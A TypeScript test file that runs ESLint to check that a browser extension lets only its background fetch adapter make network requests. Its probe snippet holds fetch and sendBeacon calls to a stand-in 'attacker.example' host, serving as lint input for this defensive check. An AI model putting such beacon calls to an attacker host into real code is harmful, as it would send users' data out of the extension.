// Lint forbids network requests outside the background's one fetch adapter (issue 13 item 1): `fetch(`,
// `globalThis.fetch`, XMLHttpRequest, WebSocket and sendBeacon are errors in every src/ context but
// src/background/net.ts. Runs ESLint with the repository's own config on snippets.
import { describe, expect, it } from 'vitest';
import { ESLint } from 'eslint';

// The probes are virtual files: the type-aware rules (no-floating-promises, tested in floating-promises-lint)
// need a file the TypeScript project knows, so here they are switched off for the probe paths only.
const eslint = new ESLint({
  cwd: process.cwd(),
  overrideConfig: { files: ['**/probe.ts'], languageOptions: { parserOptions: { projectService: false } }, rules: { '@typescript-eslint/no-floating-promises': 'off' } },
});
async function errors(filePath: string, code: string): Promise<string[]> {
  const [result] = await eslint.lintText(code, { filePath });
  return (result?.messages ?? []).filter((m) => m.severity === 2).map((m) => `${m.ruleId}: ${m.message}`);
}
const snippet = "export const a = () => fetch('https://attacker.example/');\nexport const b = () => globalThis.fetch('https://attacker.example/');\nexport const c = () => new XMLHttpRequest();\nexport const d = () => navigator.sendBeacon('https://attacker.example/', 'x');\n";

describe('only the fetch adapter makes requests (issue 13 item 1)', () => {
  it.each(['src/popup/probe.ts', 'src/ui/probe.ts', 'src/options/probe.ts', 'src/inspector/probe.ts', 'src/content/probe.ts', 'src/background/inspect/probe.ts', 'src/lib/verify/probe.ts', 'src/shared/probe.ts'])(
    '%s: every request is a lint error',
    async (file) => {
      const found = await errors(file, snippet);
      expect(found.length, found.join('\n')).toBeGreaterThanOrEqual(4);
    },
    30_000,
  );
  it('src/background/net.ts may fetch', async () => {
    expect(await errors('src/background/net.ts', "export const a = (u: string) => fetch(u, { credentials: 'omit' });\n")).toEqual([]);
  }, 30_000);
});
